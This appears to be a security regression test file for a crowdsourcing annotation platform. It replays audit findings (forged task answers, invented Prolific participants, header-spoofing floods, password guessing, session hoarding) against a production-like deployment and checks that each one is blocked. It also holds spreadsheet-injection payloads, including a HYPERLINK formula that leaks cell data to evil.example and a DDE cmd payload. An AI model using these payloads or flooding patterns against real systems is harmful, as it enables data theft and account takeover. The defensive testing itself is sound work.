"""Issue 15's findings, and issue 24's about the deployment (N2, N3, N4, N6), replayed against
the production deployment: gunicorn with SALIENCE_ENV=production behind the repository's nginx,
over HTTPS, on PostgreSQL and Redis (tests/attacks/deployment.py). The loop runs as
`manage.py sync_hits` under the same environment (in one process kept up for the deployment, as
a worker runs its passes). The other modules of tests/attacks/ take each finding apart under the
test settings; here each one is shown to hold in the configuration a researcher deploys.
"""

import csv
import functools
import html
import io
import random
import re
import time
import uuid
from contextlib import ExitStack, contextmanager
from decimal import Decimal as D
from urllib.parse import urlencode, urljoin

import pytest
import redis
import requests
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import PBKDF2PasswordHasher, make_password
from django.contrib.auth.models import Permission
from django.core.signals import request_started
from django.db import connection
from django.urls import reverse
from rest_framework.authtoken.models import Token

from annotation.batching import likert_tasks_build
from annotation.models import Batch, Campaign, Proposition, Topic
from crowd.channels.links import links
from crowd.models import HIT, Assignment, Study, TaskHold, Worker, WorkerQuality, WorkSession
from crowd.simulation.hits import DILIGENT, Judge, SimulatedWorker, forms_parse
from crowd.simulation.sessions import Participant
from crowd.work.publishing import batch_publish
from ranking.channel_demo import local_prolific_starter
from ranking.workflow import LOOP_LOCK_KEY
from tests.attacks.deployment import (
    LOGIN_FAILURES,
    LOGIN_WINDOW_SECONDS,
    PROLIFIC_TOKEN,
    in_one_window,
    production,
    trusting,
)
from tests.conftest import require_service
from tests.crowd.conftest import TurkWorker
from tests.crowd.factories import likert_batch, prolific_batch
from tests.crowd.sessions.conftest import links_batch
from tests.faults.topics import small_topic
from tests.ranking.test_pipeline import answer_batch, start_likert
from tests.ranking.test_workflow import campaign_with_topics

pytestmark = [pytest.mark.attacks, pytest.mark.django_db(transaction=True)]

FORGERS = [f"AFORGED{number:07d}" for number in range(60)]
INVENTED = [f"5f0000000000000000fake{number:02d}" for number in range(10)]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'


@pytest.fixture(scope="module")
def _shared(django_db_setup, live_server):
    """One production deployment for the module's tests that need no variable of their own
    (starting gunicorn and nginx is most of a short test's time); each test empties its
    Redis counters first, and the database is the test's own as ever."""
    with ExitStack() as stack:
        started: list = []

        def site():
            if not started:
                redis_url = require_service("SALIENCE_TEST_REDIS_URL", "Redis")
                started.append(stack.enter_context(production(live_server_url=live_server.url, redis_url=redis_url)))
            return started[0]

        yield site


@pytest.fixture
def deploy(_shared, live_server, redis_url, settings):
    """Start the production deployment (or reuse the module's, when no variable is set); the
    test process publishes to the same marketplaces (the local endpoints on its live server)
    with the deployment's public URL in every task."""

    @contextmanager
    def start(**overrides: str):
        if overrides:
            with production(live_server_url=live_server.url, redis_url=redis_url, **overrides) as site:
                yield site
            return
        site = _shared()
        redis.Redis.from_url(site.env["CACHE_URL"]).flushdb()  # no other test's counts carry over
        yield site

    settings.MTURK_ENVIRONMENT = "local"
    settings.MTURK_LOCAL_ENDPOINT_URL = f"{live_server.url}/localturk/"
    return start


@functools.cache
def _passphrase_hash() -> str:
    """The researchers' passphrase hashed with production's default hasher, not the suite's fast
    one (tests/conftest.py): once for the module, as each hash costs its full iterations."""
    return make_password("a long passphrase 7", hasher=PBKDF2PasswordHasher())


def _owner(username: str = "owner", *, staff: bool = False):
    """A researcher whose password the deployment can check."""
    user = get_user_model()(username=username, is_staff=staff)
    user.password = _passphrase_hash()
    user.save()
    return user


def _worker(base: str, worker_id: str) -> TurkWorker:
    worker = TurkWorker(base, worker_id)
    trusting(worker.http)
    return worker


# --- F1: forged answers on completed tasks ---------------------------------------------------


@pytest.mark.mturk
def test_f1_300_forged_answers_count_nowhere_and_exclude_no_one(deploy, live_server, settings):
    with deploy() as site:
        settings.SITE_URL = site.url  # the HIT pages the marketplace shows are the deployment's
        topic = small_topic(propositions=25)
        owner = _owner()
        Campaign.objects.filter(pk=topic.campaign_id).update(owner=owner)
        likert = likert_tasks_build(topic=topic, seed=1)
        batch_publish(batch_id=likert.pk)
        for hit in HIT.objects.filter(task__batch=likert):
            for number in range(3):
                _worker(live_server.url, f"AHONEST{number:07d}").complete(hit.hit_id, score=2 + number)
        site.manage("sync_hits")  # confirmed at MTurk, quality control, on to comparisons
        site.manage("sync_hits")  # approved: the Likert HITs are complete
        assert set(HIT.objects.filter(task__batch=likert).values_list("complete", flat=True)) == {True}
        counted_before = Assignment.objects.counted().count()

        statuses = []
        for worker_id in FORGERS:
            forger = _worker(site.url, worker_id)
            for task in likert.tasks.select_related("hit"):
                response = forger.forge(
                    task_uuid=task.uuid, hit_id=task.hit.hit_id, assignment_id=f"F{worker_id}{task.pk}"
                )
                statuses.append(response.status_code)
        assert statuses == [200] * 300
        assert Assignment.objects.filter(worker__external_id__in=FORGERS).count() == 300
        site.manage("sync_hits")

        assert Assignment.objects.counted().count() == counted_before
        assert not Assignment.objects.counted().filter(worker__external_id__in=FORGERS).exists()
        assert not WorkerQuality.objects.filter(worker__external_id__in=FORGERS, labels__gt=0).exists()
        assert not WorkerQuality.objects.excluded().exists()
        browser = site.login("owner", "a long passphrase 7")
        labels = browser.get(site.url + reverse("ranking:labels-download", args=[topic.campaign.slug, topic.key]))
        workers = {row["worker"] for row in csv.DictReader(io.StringIO(labels.text))}
        assert labels.status_code == 200 and workers and not workers & set(FORGERS)
        page = browser.get(site.url + reverse("dashboard:campaign", args=[topic.campaign.slug]))
        assert "300 more answers pending" in page.text


# --- F2: invented Prolific participants ---------------------------------------------------


@pytest.mark.prolific
def test_f2_ten_invented_participants_take_no_place_and_see_no_code(deploy, live_server, settings):
    settings.PROLIFIC_ENVIRONMENT = "production"  # the study is the deployment's, on "Prolific"
    settings.PROLIFIC_API_URL = f"{live_server.url}/localprolific/api/v1/"
    settings.PROLIFIC_API_TOKEN = PROLIFIC_TOKEN
    settings.PROLIFIC_COMPLETION_URL = f"{live_server.url}/localprolific/submissions/complete?cc={{code}}"
    with deploy() as site:
        settings.SITE_URL = site.url
        batch = prolific_batch(environment="production", production_enabled=True)
        batch_publish(batch_id=batch.pk, live=True)  # the researcher's explicit opt-in to real money
        study = Study.objects.of_batch(batch).get()

        http = site.session()
        pages = []
        for pid in INVENTED:
            for session_id in ("x", uuid.uuid4().hex[:24]):
                query = urlencode({"PROLIFIC_PID": pid, "STUDY_ID": study.study_id, "SESSION_ID": session_id})
                pages.append(http.get(f"{site.url}/s/prolific/?{query}", timeout=30, allow_redirects=False))
        assert [page.status_code for page in pages] == [403] * 20
        assert all("Prolific does not list you in this study" in page.text for page in pages)
        assert all(study.completion_code not in page.text for page in pages)
        assert not WorkSession.objects.exists() and not TaskHold.objects.exists()
        assert not Worker.objects.filter(channel=Campaign.Channel.PROLIFIC).exists()

        ann = Participant(
            SimulatedWorker(worker_id="5f00000000000000000000a1", behaviour=DILIGENT, noise=0.5),
            Judge(seed=1),
            random.Random(1),
        )
        trusting(ann.http)
        url = local_prolific_starter(live_server.url)(ann.http, study.study_id, ann.worker.worker_id)
        assert url is not None and url.startswith(site.url)
        done, last = ann.session_work(ann.http.get(url, timeout=30))
        assert done == 2
        assert f"cc={study.completion_code}" in last.url
        assert WorkSession.objects.get().worker.external_id == ann.worker.worker_id


# --- F3 and F4: what an import puts on a page, in a spreadsheet, in a URL --------------------


def _api(site, user) -> requests.Session:
    http = site.session()
    http.headers["Authorization"] = f"Token {Token.objects.create(user=user).key}"
    return http


def test_f3_hostile_text_reaches_csv_neutralised_and_machine_formats_exact(deploy):
    with deploy() as site:
        owner = _owner()
        campaign = Campaign.objects.create(name="Hostile", slug="hostile", owner=owner)
        api = _api(site, owner)
        content = f"topic\tsubject\trelation\tobject\nloans\t{HOSTILE}\t+cmd|' /C calc'!A0\t@SUM(1+1)\n"
        imported = api.post(
            f"{site.url}/api/campaigns/{campaign.slug}/propositions/import",
            files={"file": ("props.tsv", content.encode())},
            timeout=30,
        )
        assert imported.status_code == 201, imported.text
        worker = Worker.objects.create(channel=campaign.channel, external_id=HOSTILE)
        WorkerQuality.objects.create(campaign=campaign, worker=worker, labels=3)

        browser = site.login("owner", "a long passphrase 7")
        ranking = browser.get(site.url + reverse("ranking:ranking-download", args=[campaign.slug, "loans", "csv"]))
        quality = browser.get(site.url + reverse("crowd:campaign-quality-csv", args=[campaign.slug]))
        tsv = browser.get(site.url + reverse("ranking:ranking-download", args=[campaign.slug, "loans", "tsv"]))
        page = browser.get(site.url + reverse("ranking:topic-ranking", args=[campaign.slug, "loans"]))

        cells = [cell for row in csv.reader(io.StringIO(ranking.text)) for cell in row]
        cells += [cell for row in csv.reader(io.StringIO(quality.text)) for cell in row]
        assert "'" + HOSTILE in cells and "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
        assert not any(cell[:1] in "=+-@" and cell[1:2] not in "0123456789." for cell in cells if cell)
        assert HOSTILE in list(csv.reader(io.StringIO(tsv.text), delimiter="\t"))[1]  # exact in the machine format
        assert ranking.status_code == quality.status_code == tsv.status_code == page.status_code == 200
        assert html.escape(HOSTILE) in page.text  # shown as text on the page


def test_f4_a_topic_key_with_a_slash_is_refused_by_line_and_nothing_is_written(deploy):
    with deploy() as site:
        owner = _owner()
        campaign = Campaign.objects.create(name="Keys", slug="keys", owner=owner)
        api = _api(site, owner)
        refused = api.post(
            f"{site.url}/api/campaigns/{campaign.slug}/propositions/import",
            files={"file": ("props.tsv", b"topic\tsubject\trelation\tobject\nloans\ta\tb\tc\na/b\td\te\tf\n")},
            timeout=30,
        )
        assert refused.status_code == 400
        assert refused.json()["problems"][0].startswith("props.tsv:3 [topic]: the topic key 'a/b'")
        assert not Topic.objects.exists() and not Proposition.objects.exists()
        browser = site.login("owner", "a long passphrase 7")
        assert browser.get(f"{site.url}/campaigns/{campaign.slug}/topics/a%2Fb/ranking/").status_code == 404
        assert browser.get(site.url + reverse("dashboard:campaign", args=[campaign.slug])).status_code == 200


# --- F5, F6, F13: the limits, as production counts them ----------------------------------------


@pytest.mark.mturk
def test_f5_31_junk_posts_in_a_victims_name_and_the_victims_answer_is_stored(deploy, live_server, settings):
    with deploy() as site:
        settings.SITE_URL = site.url
        batch = likert_batch(propositions=5, assignments_per_hit=2)
        batch_publish(batch_id=batch.pk)
        hit = HIT.objects.get(task__batch=batch)
        victim = _worker(live_server.url, "AVICTIM0000001")
        accepted = victim.accept(hit.hit_id)
        attacker = site.session()
        query = {"assignmentId": accepted["assignmentId"], "hitId": hit.hit_id, "workerId": "AVICTIM0000001"}

        def flood() -> list[requests.Response]:
            return [
                attacker.post(f"{site.url}/hit/{hit.task.uuid}/submit/", data={**query, "token": ""}, timeout=30)
                for _ in range(31)
            ]

        junk = in_one_window(flood, site=site, then=10)  # the victim answers in the same window
        sent = victim.external_submit(victim.store(accepted["url"], score=4))

        assert 429 not in [response.status_code for response in junk]
        assert sent.status_code == 200
        stored = Assignment.objects.get(worker__external_id="AVICTIM0000001")
        assert set(stored.likert_labels.values_list("score", flat=True)) == {4}


def test_f6_a_rotated_forwarded_header_through_the_proxy_is_refused_after_the_limit(deploy):
    with deploy(SUBMIT_RATE_PER_ADDRESS="20") as site:
        batch = likert_batch(propositions=5)
        task = batch.tasks.get()
        http = site.session()

        def flood() -> list[int]:
            return [
                http.post(
                    f"{site.url}/hit/{task.uuid}/submit/",
                    data={"assignmentId": "A1", "workerId": "W1", "hitId": "H1"},
                    headers={"X-Forwarded-For": f"198.51.100.{number}", "Accept": "application/json"},
                    timeout=30,
                ).status_code
                for number in range(26)
            ]

        statuses = in_one_window(flood, site=site)

        assert 429 not in statuses[:20] and statuses[20:] == [429] * 6


def test_f13_wrong_passwords_on_the_token_endpoint_and_the_login_are_throttled(deploy):
    with deploy() as site:
        _owner("ada")

        def flood() -> tuple[list[requests.Response], requests.Response]:
            http = site.session()
            token = [
                http.post(f"{site.url}/api/auth/token/", data={"username": "ada", "password": "guess"}, timeout=30)
                for _ in range(12)
            ]
            http.get(f"{site.url}/accounts/login/", timeout=30)
            login = http.post(
                f"{site.url}/accounts/login/",
                data={
                    "username": "ada",
                    "password": "a long passphrase 7",
                    "csrfmiddlewaretoken": http.cookies["csrftoken"],
                },
                timeout=30,
                allow_redirects=False,
            )
            return token, login

        token, login = in_one_window(flood, site=site, window=LOGIN_WINDOW_SECONDS)

        assert [response.status_code for response in token] == [400] * LOGIN_FAILURES + [429] * 9
        assert login.status_code == 429  # the right password too, until the window ends


def test_n2_wrong_passwords_on_the_admin_login_are_throttled_until_the_window_passes(deploy):
    """Issue 24, N2: 60 wrong superuser passwords on /admin/login/ were all answered, then the
    right one logged in. The replay allows LOGIN_FAILURES (3) wrong passwords per username and
    address in a window of LOGIN_WINDOW_SECONDS (20 s); the defaults, 10 in 900 s, are
    tests/attacks/test_login_throttle.py's."""
    with deploy() as site:
        root = _owner("root", staff=True)
        get_user_model().objects.filter(pk=root.pk).update(is_superuser=True)

        def admin_login(http: requests.Session, password: str) -> requests.Response:
            return http.post(
                f"{site.url}/admin/login/?next=/admin/",
                data={"username": "root", "password": password, "csrfmiddlewaretoken": http.cookies["csrftoken"]},
                timeout=30,
                allow_redirects=False,
            )

        def flood() -> tuple[requests.Session, list[requests.Response], requests.Response]:
            http = site.session()
            http.get(f"{site.url}/admin/login/", timeout=30)
            wrong = [admin_login(http, f"guess-{number}") for number in range(6)]
            return http, wrong, admin_login(http, "a long passphrase 7")

        http, wrong, right = in_one_window(flood, site=site, window=LOGIN_WINDOW_SECONDS)

        assert [answer.status_code for answer in wrong] == [200] * LOGIN_FAILURES + [429] * 3
        assert right.status_code == 429 and "Too many failed logins from this address" in right.text
        assert "sessionid" not in http.cookies
        time.sleep(int(right.headers["Retry-After"]) + 1)  # the window the server names passes
        later = admin_login(http, "a long passphrase 7")
        assert later.status_code == 302 and later.headers["Location"] == "/admin/"
        assert http.get(f"{site.url}/admin/", timeout=30, allow_redirects=False).status_code == 200


# --- N3: an open link's places, from one client and from several ------------------------------


def test_n3_one_client_cannot_take_an_open_links_places(deploy, settings):
    """Issue 24, N3: 40 invented codes from one client took 12 of 12 places. Through nginx the
    client is the address it connects from (a forged X-Forwarded-For changes nothing): each
    address opens LINK_SESSIONS_PER_ADDRESS (3) sessions, and a participant from another
    address still gets a task."""
    with deploy() as site:
        settings.SITE_URL = site.url
        # 6 tasks, 2 answers each: 12 places, as in the report.
        batch = links_batch(propositions=30, tasks_per_session=3, assignments=2, assignment_duration_seconds=1800)
        link = links.link_create(campaign=batch.topic.campaign, kind="open")
        link_url = f"{site.url}/s/l/{link.token}/"

        def open_session(http: requests.Session, code: str, **headers: str) -> requests.Response:
            page = http.get(link_url, timeout=30)
            token = dict(forms_parse(page.text)["form-0"].hidden)["csrfmiddlewaretoken"]
            started = http.post(
                link_url,
                data={"code": code, "csrfmiddlewaretoken": token},
                headers=headers,
                timeout=30,
                allow_redirects=False,
            )
            if started.status_code == 302:
                http.get(urljoin(link_url, started.headers["Location"]), timeout=30)  # takes a place
            return started

        attacker = site.session("127.0.0.1")
        hoarded = [
            open_session(attacker, f"INVENTED-{number}", **{"X-Forwarded-For": f"198.51.100.{number}"})
            for number in range(40)
        ]
        second = site.session("127.0.0.2")
        also = [open_session(second, f"ALSO-{number}") for number in range(10)]

        assert [answer.status_code for answer in hoarded] == [302] * 3 + [429] * 37
        assert [answer.status_code for answer in also] == [302] * 3 + [429] * 7
        assert "sessions are already open on this link from your network" in hoarded[-1].text
        assert hoarded[-1].headers["Retry-After"] == "60"
        held = TaskHold.objects.filter(released_at__isnull=True, submitted_at__isnull=True)
        assert held.count() == 6 and WorkSession.objects.count() == 6
        assert set(WorkSession.objects.values_list("opened_from", flat=True)) == {"127.0.0.1", "127.0.0.2"}

        genuine = site.session("127.0.0.3")
        started = open_session(genuine, "P-001")
        assert started.status_code == 302
        page = genuine.get(urljoin(link_url, started.headers["Location"]), timeout=30)
        assert 'class="session-task"' in page.text


# --- N4: a flood of invented Prolific arrivals ------------------------------------------------


@pytest.fixture
def prolific_calls():
    """The requests the local Prolific endpoint (the test's live server) receives that look
    up one submission: what an arrival costs the workspace's rate budget, counted where Prolific
    would count it."""
    made: list[str] = []
    submission = re.compile(r"^/localprolific/api/v1/submissions/(?!bulk-approve/|bonus-payments/)[^/]+/$")

    def count(sender, environ, **kwargs):
        if environ.get("REQUEST_METHOD") == "GET" and submission.match(environ.get("PATH_INFO", "")):
            made.append(environ["PATH_INFO"])

    request_started.connect(count, dispatch_uid="prolific-calls")
    yield made
    request_started.disconnect(dispatch_uid="prolific-calls")


@pytest.mark.prolific
def test_n4_a_flood_of_invented_arrivals_makes_a_bounded_number_of_calls_to_prolific(
    deploy, live_server, settings, prolific_calls
):
    """Issue 24, N4: 600 invented arrivals made 601 token-authenticated calls to Prolific. The
    replay lets PROLIFIC_ARRIVALS_PER_ADDRESS=30 arrivals a minute from one address, and
    PROLIFIC_ARRIVAL_CALLS_PER_MINUTE (60) calls to Prolific a minute in all."""
    settings.PROLIFIC_ENVIRONMENT = "production"
    settings.PROLIFIC_API_URL = f"{live_server.url}/localprolific/api/v1/"
    settings.PROLIFIC_API_TOKEN = PROLIFIC_TOKEN
    settings.PROLIFIC_COMPLETION_URL = f"{live_server.url}/localprolific/submissions/complete?cc={{code}}"
    with deploy() as site:
        settings.SITE_URL = site.url
        batch = prolific_batch(environment="production", production_enabled=True)
        batch_publish(batch_id=batch.pk, live=True)
        study = Study.objects.of_batch(batch).get()

        def flood(address: str, count: int, start: int) -> list[requests.Response]:
            http = site.session(address)
            return [
                http.get(
                    f"{site.url}/s/prolific/",
                    params={
                        "PROLIFIC_PID": f"5f00000000000000fake{number:04d}",
                        "STUDY_ID": study.study_id,
                        "SESSION_ID": f"S{number:023d}",
                    },
                    timeout=30,
                    allow_redirects=False,
                )
                for number in range(start, start + count)
            ]

        def arrivals() -> tuple[list[requests.Response], ...]:
            prolific_calls.clear()  # publishing's own, or an earlier run's
            return flood("127.0.0.1", 100, 0), flood("127.0.0.2", 30, 100), flood("127.0.0.3", 30, 130)

        one, two, three = in_one_window(arrivals, site=site)

        assert [answer.status_code for answer in one] == [403] * 30 + [429] * 70
        assert [answer.status_code for answer in two] == [403] * 30
        assert [answer.status_code for answer in three] == [503] * 30
        assert len(prolific_calls) == 60  # not 160
        assert all(answer.headers["Retry-After"] == "60" for answer in one[30:] + three)
        assert "please try again in a minute" in one[-1].text and "try again in a minute" in three[-1].text
        assert study.completion_code not in "".join(answer.text for answer in one + two + three)
        assert not WorkSession.objects.exists() and not TaskHold.objects.exists()
        assert not Worker.objects.filter(channel=Campaign.Channel.PROLIFIC).exists()


# --- N6: a large import through nginx ---------------------------------------------------------


def _proposition_file(size: int) -> tuple[bytes, int]:
    """A proposition file of `size` bytes (its last row padded to fit) in one topic, each row
    with its source sentence as Open IE gives it; and its number of rows."""
    header = b"topic\tsubject\trelation\tobject\tsource\n"
    sentence = b"The federal student loan program sets interest rates for undergraduate borrowers each year. " * 3
    rows, written, number = [header], len(header), 0
    while True:
        row = b"loans\tborrower %d\tpays\tinterest at rate %d\t%s\n" % (number, number, sentence)
        if written + len(row) > size:
            break
        rows.append(row)
        written += len(row)
        number += 1
    last = rows.pop()
    rows.append(last[:-1] + b" " * (size - written) + b"\n")
    return b"".join(rows), number


def _import_through_nginx(site, size: int) -> None:
    owner = _owner()
    campaign = Campaign.objects.create(name="Large", slug="large", owner=owner)
    content, rows = _proposition_file(size)
    assert len(content) == size
    started = time.monotonic()
    imported = _api(site, owner).post(
        f"{site.url}/api/campaigns/{campaign.slug}/propositions/import",
        files={"file": ("propositions.tsv", content)},
        timeout=1200,
    )
    elapsed = time.monotonic() - started
    print(f"import of {size:,} bytes ({rows:,} rows) through nginx: {elapsed:.1f} s")

    assert imported.status_code == 201, imported.text[:500]
    assert Proposition.objects.filter(topic__campaign=campaign, topic__key="loans").count() == rows


def test_n6_a_20_mb_import_through_nginx_completes(deploy):
    """Issue 24, N6, at a tenth of the size: the upload passes nginx's body limit and its
    buffering to disk, and the rows are in the database."""
    with deploy() as site:
        _import_through_nginx(site, 20 * 1024 * 1024)


@pytest.mark.slow
def test_n6_an_import_of_import_max_bytes_through_nginx_completes(deploy):
    """Issue 24, N6: a 195 MB file got nginx's 504 after 60 s. A file of IMPORT_MAX_BYTES
    (200 MB) now imports behind the shipped nginx; its wall time is printed."""
    with deploy() as site:
        _import_through_nginx(site, django_settings.IMPORT_MAX_BYTES)


# --- F8: the admin and the API docs ------------------------------------------------------------


def test_f8_a_staff_researcher_sees_only_their_campaigns_and_the_docs_need_a_login(deploy):
    with deploy() as site:
        alice, bob = _owner("alice", staff=True), _owner("bob", staff=True)
        bob.user_permissions.set(Permission.objects.filter(content_type__app_label__in=["annotation", "crowd"]))
        Campaign.objects.create(name="Alice's study", slug="alice-study", owner=alice, production_enabled=True)
        Campaign.objects.create(name="Bob's study", slug="bob-study", owner=bob)
        anonymous = site.session()

        schema = anonymous.get(f"{site.url}/api/schema/", timeout=30, allow_redirects=False)
        docs = anonymous.get(f"{site.url}/api/docs/", timeout=30, allow_redirects=False)
        browser = site.login("bob", "a long passphrase 7")
        listing = browser.get(f"{site.url}/admin/annotation/campaign/", timeout=30)
        alices = Campaign.objects.get(slug="alice-study")
        change = browser.get(f"{site.url}/admin/annotation/campaign/{alices.pk}/change/", timeout=30)

        assert schema.status_code in (401, 403) and docs.status_code in (302, 401, 403)
        assert listing.status_code == 200 and "Bob&#x27;s study" in listing.text
        assert "alice-study" not in listing.text and "Alice" not in listing.text
        assert change.status_code in (302, 404) or "alice-study" not in change.text


# --- F9: one pass of the loop at a time --------------------------------------------------------


def test_f9_a_second_pass_while_one_runs_does_nothing_and_says_so(deploy):
    with deploy() as site:
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_lock(%s)", [LOOP_LOCK_KEY])
        try:
            skipped = site.manage("sync_hits")
        finally:
            with connection.cursor() as cursor:
                cursor.execute("SELECT pg_advisory_unlock(%s)", [LOOP_LOCK_KEY])
        ran = site.manage("sync_hits")

        assert "A pass of the loop is running already" in skipped.stdout
        assert "HITs 0" in ran.stdout and "running already" not in ran.stdout


# --- F12: a batch the budget cap holds back ----------------------------------------------------


@pytest.mark.mturk
def test_f12_a_batch_held_by_the_cap_says_why_on_the_page_and_in_the_api_not_as_errors(deploy, settings):
    with deploy() as site:
        settings.SITE_URL = site.url
        campaign, latent = campaign_with_topics(1)
        owner = _owner()
        Campaign.objects.filter(pk=campaign.pk).update(owner=owner, budget_cap=D("0.01"))
        answer_batch(start_likert(campaign.topics.get()), latent, random.Random(7))

        passes = [site.manage("sync_hits"), site.manage("sync_hits")]

        assert all("error" not in result.stderr.lower() for result in passes), [p.stderr for p in passes]
        held = Batch.objects.get(topic__campaign=campaign, kind=Batch.Kind.COMPARISON)
        assert "budget cap of campaign" in held.held_reason
        page = site.login("owner", "a long passphrase 7").get(
            site.url + reverse("dashboard:campaign", args=[campaign.slug]), timeout=30
        )
        assert f"Comparison batch #{held.number} is held back: " in page.text
        listed = _api(site, owner).get(f"{site.url}/api/campaigns/{campaign.slug}/batches/", timeout=30).json()
        rows = listed["results"] if isinstance(listed, dict) else listed
        assert {row["number"]: row["held_reason"] for row in rows}[held.number] == held.held_reason
